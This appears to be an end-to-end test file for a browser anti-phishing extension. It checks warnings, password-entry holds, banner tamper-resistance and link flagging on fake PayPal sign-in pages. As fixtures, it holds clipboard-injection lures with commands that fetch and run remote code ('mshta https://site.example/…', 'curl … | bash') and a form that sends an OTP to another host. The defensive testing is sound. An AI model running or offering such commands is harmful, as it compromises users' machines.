/**
 * A page that no list names and that is made like a fraud: the banner with its reasons, the popup that says the same,
 * 'It is fine', the question before a password is typed; and silence on innocent pages.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT } from '../../src/tools/run.ts';
import { sleep } from '../support/browsers/script.ts';
import { BROWSERS, type Tab } from '../support/browsers/types.ts';
import { scriptOf } from '../support/script-of.ts';
import { signalSums } from '../support/signal-sums.ts';
import { continueAnyway, openPopup, PATIENT, waitForWarning } from '../support/steps.ts';
import { World } from '../support/world.ts';

const BANNER = '[data-sansi="caution"]';
const HOLD = '[data-sansi="form-hold"]';
const BAR = '[data-sansi="continued"]';
/** Longer than a page is looked at. */
const LOOKED_MS = 9_000;

const html = (title: string, body: string) => ({
  body: `<!doctype html><meta charset="utf-8"><title>${title}</title><body><div style="height: 26rem"></div>${body}<input id="last"></body>`,
});
const SIGN_IN = '<form><input id="user" name="user"><input id="secret" type="password" name="pw"></form>';
/** A page that may not be stored is not kept alive in the history. */
const KEPT_ALIVE = { 'cache-control': 'max-age=600' };
/** What stands there without a host leads to another one. */
const SENT_AWAY =
  '<base href="http://gatherer.test/"><form><input name="otp"><button formaction="/take">Go</button></form>';

describe.each(BROWSERS)('a page that no list names (%s)', (name) => {
  let world: World;
  let tab: Tab;

  beforeAll(async () => {
    world = await World.open(name, {
      entries: { 'listed-fraud.test': 'phishing', 'account:822/888800001111': 'investment' },
    });
    const { sites } = world;
    sites.route('willow-harbor.test', '/', html('PayPal: Log in', `<h1>PayPal</h1>${SIGN_IN}${SENT_AWAY}`));
    sites.route('amber-field.test', '/', html('PayPal: Log in', `<h1>PayPal</h1>${SIGN_IN}`));
    sites.route('stone-bridge.test', '/', html('Stone Bridge Forum', `<h1>Sign in</h1>${SIGN_IN}`));
    sites.route('listed-fraud.test', '/', html('Shop', SIGN_IN));
    // Whose password is asked for: in the page, its shadow roots, its frame, or nowhere until somebody presses a button.
    const closed = (tag: string) => `<${tag} id="holder"></${tag}><script>
      window.inner = holder.attachShadow({ mode: 'closed' }); window.inner.innerHTML = '${SIGN_IN}'</script>`;
    const frame = '<iframe id="inside" src="/inside" width="600" height="400"></iframe>';
    const late = `<button id="next" onclick="this.insertAdjacentHTML('afterend', '${SIGN_IN.replaceAll('"', '&quot;')}')">Next</button>`;
    for (const [host, body] of Object.entries({
      'birch-lane.test': `${SIGN_IN}<dialog id="modal"><input id="in-modal"></dialog>`,
      'shadow-lane.test': `${SIGN_IN}${closed('div')}`,
      'frame-lane.test': `${SIGN_IN}${frame}`,
      'only-shadow.test': closed('sign-in'),
      'only-frame.test': frame,
      'only-late.test': late,
    })) {
      sites.route(host, '/', { ...html('PayPal: Log in', `<h1>PayPal</h1>${body}`), headers: KEPT_ALIVE });
      sites.route(host, '/inside', html('Inside', SIGN_IN));
    }
    const pay = '<h1>Order 17</h1><p>匯款 銀行代碼822 帳號 8888-0000-1111</p>';
    sites.route('quiet-meadow.test', '/', html('Order', pay));
    tab = await world.browser.newTab();
  });
  afterAll(() => world?.close());

  async function inAnotherWindow(url: string): Promise<Tab> {
    const asking = await world.browser.newTab(world.browser.extensionUrl('icons/sansi-16.png'));
    await asking.evaluate(async (to: string) => void (await chrome.windows.create({ url: to })), url);
    const there = await world.browser.waitForTab(url);
    await asking.close();
    await tab.show();
    return there;
  }

  it('is worth the same to the bit as in Node', async () => {
    const file = readFileSync(join(ROOT, 'src/signals/data/weights.bin'));
    const code = await scriptOf(join(ROOT, 'test/support/signal-sums.ts'), 'SansiSums');
    const run = `window.sums = SansiSums.signalSums(Uint8Array.from(atob('${file.toString('base64')}'), (letter) => letter.charCodeAt(0)))`;
    world.sites.route('plain-sums.test', '/', html('Sums', `<script>${code};${run}</script>`));
    await tab.goto('http://plain-sums.test/');
    const sums = signalSums(new Uint8Array(file));
    expect(new Set(sums).size).toBeGreaterThan(200);
    expect(await tab.evaluate(() => (window as unknown as { sums: number[] }).sums)).toEqual(sums);
  });

  it('is cautioned about with its reasons, and the popup says the same', async () => {
    await tab.goto('http://willow-harbor.test/');
    await tab.waitFor(BANNER);
    const popup = await openPopup(world.browser, tab);
    await popup.waitFor('html[data-verdict="suspect"] [data-signal="nameElsewhere"]');
    await popup.waitFor('[data-signal="sendsElsewhere"]');
    await popup.close();
    // Its words read from the left, whichever way the page's do.
    const direction = () => {
      document.documentElement.dir = 'rtl';
      return getComputedStyle(document.querySelector('[data-sansi="caution"]')!).direction;
    };
    expect(await tab.evaluate(direction)).toBe('ltr');
    // What it says is in a root that the page cannot look into.
    expect(
      await tab.evaluate(() => document.querySelector('[data-sansi="caution"]')?.shadowRoot ?? null),
    ).toBeNull();
  });

  it('asks one question before a password is typed, and the page hears no letter of it', async () => {
    await tab.evaluate(() => {
      const heard: string[] = [];
      Object.assign(window, { heard });
      for (const type of ['keydown', 'beforeinput', 'input'])
        document.addEventListener(type, (event) => {
          if (event.target === document.querySelector('#secret')) heard.push(type);
        });
    });
    await tab.click('#user');
    await tab.press('x');
    expect(await tab.evaluate(() => document.querySelector<HTMLInputElement>('#user')?.value)).toBe('x');
    await tab.click('#secret');
    await tab.press('s');
    await tab.waitFor(HOLD);
    const state = () =>
      tab.evaluate(() => ({
        value: document.querySelector<HTMLInputElement>('#secret')?.value,
        heard: (window as unknown as { heard: string[] }).heard,
      }));
    expect(await state()).toEqual({ value: '', heard: [] });
    // The way out stands first, 'I came here by myself' second.
    await tab.press('Tab');
    await tab.press('Enter');
    await tab.waitFor(() => document.querySelector('[data-sansi="form-hold"]') === null);
    await tab.click('#secret');
    await tab.press('s');
    await expect.poll(async () => (await state()).value, PATIENT).toBe('s');
  });

  it('is asked about once more where the page takes the question away, and by no key that closes dialogs', async () => {
    await tab.goto('http://birch-lane.test/');
    await tab.waitFor(BANNER);
    const isAsked = () =>
      document.querySelector<HTMLDialogElement>('[data-sansi="form-hold"]')?.open === true;
    await tab.click('#secret');
    await tab.press('s');
    await tab.waitFor(isAsked);
    // One question at a time.
    expect(await tab.evaluate(() => document.querySelector('[data-sansi="caution"]'))).toBeNull();
    for (let pressed = 0; pressed < 4; pressed++) {
      await tab.press('Escape');
      await sleep(200);
      expect(await tab.evaluate(isAsked)).toBe(true);
    }
    await tab.evaluate(() => document.querySelector('[data-sansi="form-hold"]')?.remove());
    await tab.click('#secret');
    await tab.press('s');
    await tab.waitFor(isAsked);
    expect(await tab.evaluate(() => document.querySelector<HTMLInputElement>('#secret')?.value)).toBe('');
    await tab.press('Tab');
    await tab.press('Enter');
    await tab.waitFor(BANNER);
  });

  it('keeps its banner, and it can be used, whatever the page does', async () => {
    await tab.goto('http://birch-lane.test/');
    await tab.waitFor(BANNER);
    const isUsable = () => {
      const banner = document.querySelector<HTMLElement>('[data-sansi="caution"]');
      if (banner === null) return false;
      const { left, top, width, height } = banner.getBoundingClientRect();
      return document.elementFromPoint(left + width / 2, top + height / 2) === banner;
    };
    for (const attack of [
      () => document.querySelector('[data-sansi="caution"]')?.remove(),
      () =>
        document
          .querySelector<HTMLElement>('[data-sansi="caution"]')
          ?.style.setProperty('display', 'none', 'important'),
      () => document.querySelector('[data-sansi="caution"]')?.setAttribute('inert', ''),
      () => {
        const cover = document.createElement('div');
        cover.id = 'cover';
        cover.style.cssText = 'position: fixed; inset: 0; width: 100vw; height: 100vh; background: white';
        cover.popover = 'manual';
        document.body.append(cover);
        cover.showPopover();
      },
      // All that is not in it is inert then.
      () => document.querySelector<HTMLDialogElement>('#modal')?.showModal(),
      () => document.querySelector<HTMLDialogElement>('#modal')?.close(),
      () => document.querySelector<HTMLDialogElement>('#modal')?.showModal(),
    ]) {
      await tab.evaluate(attack);
      await sleep(100);
      await tab.waitFor(isUsable);
    }
    // By key too: leave, report, 'It is fine'.
    await tab.click('#in-modal');
    for (const key of ['Tab', 'Tab', 'Tab', 'Enter']) await tab.press(key);
    await tab.waitFor(() => document.querySelector('[data-sansi="caution"]') === null);
    // Where that is said, nobody is asked before the password either.
    await tab.evaluate(() => {
      document.querySelector<HTMLDialogElement>('#modal')?.close();
      document.querySelector('#cover')?.remove();
    });
    await tab.click('#secret');
    await tab.press('s');
    expect(await tab.evaluate(() => document.querySelector<HTMLInputElement>('#secret')?.value)).toBe('s');
  });

  const WAYS: Record<string, () => Promise<void>> = {
    pasted: async () => {
      await tab.type('#user', 'letters');
      await tab.press('Control+a');
      await tab.press('Control+c');
      await tab.click('#secret');
      await tab.press('Control+v');
    },
    // As by dictation, by a manager of passwords that writes like a keyboard, or by the browser itself.
    'put there without a key': () =>
      tab.evaluate(() => {
        document.querySelector<HTMLElement>('#secret')?.focus();
        document.execCommand('insertText', false, 'letters');
      }),
    // Firefox lets no driver compose.
    ...(name === 'chrome' && {
      composed: async () => {
        await tab.click('#secret');
        await tab.compose('ni', '你');
      },
    }),
  };
  it.each(Object.keys(WAYS))('asks before a password however it comes into its field: %s', async (way) => {
    await tab.goto('http://shadow-lane.test/');
    await tab.waitFor(BANNER);
    await WAYS[way]?.();
    await tab.waitFor(HOLD);
    const value = () => document.querySelector<HTMLInputElement>('#secret')?.value;
    await expect.poll(() => tab.evaluate(value), PATIENT).toBe('');
  });

  it('asks before a password in a closed shadow root', async () => {
    await tab.goto('http://shadow-lane.test/');
    await tab.waitFor(BANNER);
    await tab.evaluate(() =>
      (window as unknown as { inner: ShadowRoot }).inner.querySelector<HTMLElement>('#secret')?.focus(),
    );
    await tab.press('s');
    await tab.waitFor(HOLD);
    const value = () =>
      (window as unknown as { inner: ShadowRoot }).inner.querySelector<HTMLInputElement>('#secret')?.value;
    expect(await tab.evaluate(value)).toBe('');
  });

  it('asks before a password in a frame, and is left from there', async () => {
    await tab.goto('http://frame-lane.test/');
    await tab.waitFor(BANNER);
    const inFrame = <R>(fn: () => R) => tab.evaluateInFrame('/inside', fn);
    await inFrame(() => {
      window.focus();
      document.querySelector<HTMLElement>('#secret')?.focus();
    });
    await tab.press('s');
    await expect
      .poll(() => inFrame(() => document.querySelector('[data-sansi="form-hold"]') !== null), PATIENT)
      .toBe(true);
    expect(await inFrame(() => document.querySelector<HTMLInputElement>('#secret')?.value)).toBe('');
    // The way out stands first.
    await tab.press('Enter');
    await tab.waitFor(() => location.host !== 'frame-lane.test');
  });

  it.each(['only-shadow.test', 'only-frame.test'])(
    'is cautioned about where its fields are not in the document itself: %s',
    async (host) => {
      await tab.goto(`http://${host}/`);
      await tab.waitFor(BANNER);
    },
  );

  it('is cautioned about once it asks, however late', async () => {
    await tab.goto('http://only-late.test/');
    await sleep(LOOKED_MS);
    expect(await tab.evaluate(() => document.querySelector('[data-sansi]'))).toBeNull();
    await tab.click('#next');
    await tab.click('#secret');
    await tab.waitFor(BANNER);
    await tab.click('#secret');
    await tab.press('s');
    await tab.waitFor(HOLD);
  });

  it('is said by the popup and the badge again when the page comes back out of the history', async () => {
    await tab.goto('http://shadow-lane.test/');
    await tab.waitFor(BANNER);
    await tab.goto('http://stone-bridge.test/');
    await sleep(2_000);
    await tab.back();
    await tab.waitFor(BANNER);
    const popup = await openPopup(world.browser, tab);
    await popup.waitFor('html[data-verdict="suspect"] [data-signal="nameElsewhere"]');
    const id = await tab.id();
    const badge = () => popup.evaluate((tabId: number) => chrome.action.getBadgeText({ tabId }), id);
    await expect.poll(badge, PATIENT).not.toBe('');
    await popup.close();
  });

  it('shows an account that a list has, and is cautioned about for it', async () => {
    await tab.goto('http://quiet-meadow.test/');
    await tab.waitFor(BANNER);
    const popup = await openPopup(world.browser, tab);
    await popup.waitFor('html[data-verdict="suspect"] [data-signal="listedIdentifier"]');
    const shown = () => document.querySelector('[data-signal="listedIdentifier"]')?.textContent;
    expect(await popup.evaluate(shown)).toContain('822/888800001111');
    await popup.close();
  });

  it('is quiet after "It is fine", now and later, and gets no word where it says its own name', async () => {
    await tab.goto('http://amber-field.test/');
    await tab.waitFor(BANNER);
    await tab.click('#last');
    // Leave, report, 'It is fine'.
    for (const key of ['Tab', 'Tab', 'Tab', 'Enter']) await tab.press(key);
    await tab.waitFor(() => document.querySelector('[data-sansi="caution"]') === null);
    const named = await inAnotherWindow('http://stone-bridge.test/');
    await tab.reload();
    await sleep(LOOKED_MS);
    // What nobody sees would not be looked at.
    for (const one of [tab, named])
      expect(await one.evaluate(() => document.visibilityState)).toBe('visible');
    expect(await tab.evaluate(() => document.querySelector('[data-sansi="caution"]'))).toBeNull();
    expect(await named.evaluate(() => document.querySelector('[data-sansi]'))).toBeNull();
    await named.click('#secret');
    await named.press('s');
    expect(await named.evaluate(() => document.querySelector<HTMLInputElement>('#secret')?.value)).toBe('s');
    await named.close();
    const popup = await openPopup(world.browser, tab);
    expect(await popup.evaluate(() => document.documentElement.dataset.verdict)).toBe('unknown');
    await popup.close();
  });

  it('asks the same where the person went on from a warning', async () => {
    await tab.goto('http://listed-fraud.test/');
    await waitForWarning(world.browser, tab);
    await continueAnyway(tab);
    await tab.waitForUrl('http://listed-fraud.test/');
    await sleep(3_000);
    await tab.click('#secret');
    await tab.press('s');
    await tab.waitFor(HOLD);
    expect(await tab.evaluate(() => document.querySelector<HTMLInputElement>('#secret')?.value)).toBe('');
  });

  it('carries a bar there, which the page cannot read or be rid of, and which no other page has', async () => {
    await tab.goto('http://listed-fraud.test/');
    await tab.waitFor(BAR);
    const { root, position, top, height, width } = await tab.evaluate(() => {
      const bar = document.querySelector('[data-sansi="continued"]') as HTMLElement;
      const { top, height, width } = bar.getBoundingClientRect();
      return { root: bar.shadowRoot, position: getComputedStyle(bar).position, top, height, width };
    });
    // Fixed: what the page has made stays where it was.
    expect({ root, position, top }).toEqual({ root: null, position: 'fixed', top: 0 });
    expect(height).toBeGreaterThan(30);
    expect(height).toBeLessThan(50);
    expect(width).toBe(await tab.evaluate(() => document.documentElement.clientWidth));
    const isThere = () => {
      const bar = document.querySelector<HTMLElement>('[data-sansi="continued"]');
      return bar !== null && document.elementFromPoint(innerWidth / 2, 10) === bar;
    };
    for (const attack of [
      () => document.querySelector('[data-sansi="continued"]')?.remove(),
      () =>
        document
          .querySelector<HTMLElement>('[data-sansi="continued"]')
          ?.style.setProperty('display', 'none', 'important'),
      () => document.querySelector<HTMLElement>('[data-sansi="continued"]')?.hidePopover(),
      () => {
        const cover = document.createElement('div');
        cover.style.cssText = 'position: fixed; inset: 0; width: 100vw; height: 100vh; background: white';
        cover.popover = 'manual';
        document.body.append(cover);
        cover.showPopover();
      },
    ]) {
      await tab.evaluate(attack);
      await tab.waitFor(isThere);
    }
    await tab.goto('http://news.test/links?to=http://listed-fraud.test/');
    await tab.waitFor('#link0[data-sansi="listed"]');
    expect(await tab.evaluate(() => document.querySelector('[data-sansi="continued"]'))).toBeNull();
  });

  it('says there what it puts into the clipboard, where that is a command, and nothing of what is none', async () => {
    const copy = `function copy(text, how) {
      if (how === 'event') { addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', text);
        event.preventDefault(); event.stopImmediatePropagation(); }, { once: true, capture: true }); }
      const field = Object.assign(document.createElement('textarea'), { value: how === 'event' ? 'x' : text });
      document.body.append(field); field.select(); document.execCommand('copy'); field.remove(); }`;
    const button = (id: string, does: string) =>
      `<p><button id="${id}" onclick="${does}">I am no robot</button></p>`;
    const buttons = [
      button('plain', "copy('Order 4711')"),
      button('field', "copy('mshta https://site.example/field')"),
      button('event', "copy('mshta https://site.example/event', 'event')"),
      button('write', "navigator.clipboard.writeText('curl https://site.example/a | bash')"),
    ];
    // As on https, where the browser has it: here the page brings its own.
    const own =
      'class Clipboard { async writeText() {} } Object.defineProperty(navigator, "clipboard", { value: new Clipboard() });';
    world.sites.route(
      'listed-fraud.test',
      '/robot',
      html('Check', `${buttons.join('')}<script>${copy} ${own}</script>`),
    );
    await tab.goto('http://listed-fraud.test/robot');
    await tab.waitFor(BAR);
    const boxes = () =>
      tab.evaluate(() =>
        [...document.querySelectorAll('[data-sansi="caution"]')].map((box) => box.clientHeight > 40),
      );
    await tab.click('#plain');
    for (const id of ['field', 'event', 'write']) {
      expect(await boxes()).toEqual([]);
      await tab.click(`#${id}`);
      await expect.poll(boxes, PATIENT).toEqual([true]);
      await tab.evaluate(() => document.querySelector('[data-sansi="caution"]')!.remove());
    }
    // No other page is listened to: nothing in it is another's than its own.
    world.sites.route(
      'news.test',
      '/robot',
      html('News', `${buttons.join('')}<script>${copy} ${own}</script>`),
    );
    await tab.goto('http://news.test/robot');
    const untouched = () =>
      Object.getPrototypeOf((navigator as unknown as { clipboard: object }).clipboard).writeText.toString();
    expect(await tab.evaluate(untouched)).toContain('async writeText');
    await tab.click('#field');
  });

  it('is left by the bar, and is no longer let through then', async () => {
    await tab.goto('http://listed-fraud.test/');
    await tab.waitFor(BAR);
    await tab.click('#last');
    await tab.press('Tab');
    await tab.press('Enter');
    await tab.waitFor(() => location.host !== 'listed-fraud.test');
    const own = await world.browser.newTab(world.browser.extensionUrl('left'));
    const letThrough = () =>
      own.evaluate(async () => (await chrome.storage.session.get('allowances')).allowances);
    await expect.poll(letThrough, PATIENT).toEqual([]);
    await own.close();
  });

  it('is marked in links where its address alone is enough', async () => {
    await tab.goto(
      'http://news.test/links?to=http://airdrop-claim-rewards.xyz/&to=http://garden-notes.test/&to=http://0x08080808/',
    );
    await tab.waitFor('#link0[data-sansi="suspect"]');
    // Judged as it is written: where it leads looks like any address.
    await tab.waitFor('#link2[data-sansi="suspect"]');
    expect(await tab.evaluate(() => document.querySelector('#link1')?.getAttribute('data-sansi'))).toBeNull();
  });

  it('is marked in links whose words are a well-known address, and says so where somebody comes to one', async () => {
    const link = (id: string, to: string, words: string) => `<p><a id="${id}" href="${to}">${words}</a></p>`;
    const links = [
      link('own', 'https://www.paypal.com/signin', 'paypal.com'),
      link('short', 'https://bit.ly/3xYz', 'Our photos'),
      link('other', 'https://garden-lantern-notes.com/a', 'www.paypal.com/signin'),
      link('plain', 'https://garden-lantern-notes.com/a', 'Garden notes'),
    ];
    world.sites.route('plain-mail.test', '/', html('Mail', links.join('')));
    await tab.goto('http://plain-mail.test/');
    await tab.waitFor('#other[data-sansi="suspect"]');
    expect(await tab.evaluate(() => document.querySelectorAll('a[data-sansi]').length)).toBe(1);
    /** The box that says something, in a root that the page cannot look into. */
    const isSaid = () =>
      tab.evaluate(() => document.documentElement.lastElementChild instanceof HTMLDivElement);
    for (const [id, said] of [
      ['own', false],
      ['short', true],
      ['other', true],
      ['plain', false],
    ] as const) {
      await tab.evaluate((which) => {
        const before = document.createElement('input');
        document.getElementById(which)!.before(before);
        before.focus();
      }, id);
      await tab.press('Tab');
      await expect.poll(isSaid, PATIENT).toBe(said);
    }
    // A browser moves the page to show what the focus has come to: the words stay beside it.
    await tab.evaluate(() => {
      document.body.style.paddingTop = '300vh';
      document.querySelector<HTMLElement>('#other')!.focus();
    });
    await tab.waitFor(() => scrollY > 0);
    await tab.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
    expect(await isSaid()).toBe(true);
  });
});
